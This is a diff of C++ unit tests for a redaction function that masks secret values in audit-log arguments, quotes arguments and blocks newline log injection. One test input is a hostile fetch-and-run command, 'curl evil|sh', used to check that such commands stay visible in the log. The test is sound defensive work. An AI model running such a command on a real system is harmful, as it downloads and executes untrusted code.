@@ -6,13 +6,24 @@
 namespace pgod {
 namespace {
 
-TEST(Audit, ValuesAfterAnEqualsSignAreHidden) {
+TEST(Audit, ValuesOfEnvironmentAssignmentsAreHidden) {
   EXPECT_EQ(redact_arguments({"-e", "TOKEN=hunter2", "web", "env"}), "-e TOKEN=*** web env");
-  EXPECT_EQ(redact_arguments({"--env=TOKEN=hunter2", "web"}), "--env=*** web");
+  EXPECT_EQ(redact_arguments({"--env=TOKEN=hunter2", "web"}), "--env=TOKEN=*** web");
+  EXPECT_EQ(redact_arguments({"web", "env", "DB_PASSWORD=s3cret", "sh"}), "web env DB_PASSWORD=*** sh");
   EXPECT_EQ(redact_arguments({"--tail", "10", "web"}), "--tail 10 web");
   EXPECT_EQ(redact_arguments({}), "");
-  // A line stays a line: a newline in an argument cannot forge a second field or entry.
-  EXPECT_EQ(redact_arguments({"a\nPGOD_AUDIT", "b\tc"}), "a?PGOD_AUDIT b?c");
+}
+
+TEST(Audit, NoCommandHidesBehindAnEqualsSign) {
+  // Not an assignment: shown whole, quoted so the boundaries between arguments stay.
+  EXPECT_EQ(redact_arguments({"web", "sh", "-c", ":=; curl evil|sh"}), "web sh -c ':=; curl evil|sh'");
+  EXPECT_EQ(redact_arguments({"web", "a b", "it's"}), "web 'a b' 'it'\\''s'");
+}
+
+TEST(Audit, ALineStaysALineAndBounded) {
+  EXPECT_EQ(redact_arguments({"a\nPGOD_AUDIT", "b"}), "'a?PGOD_AUDIT' b");
+  const auto long_args = redact_arguments({std::string(20000, 'x')});
+  EXPECT_LE(long_args.size(), 8192u + 3u);
 }
 
 }  // namespace
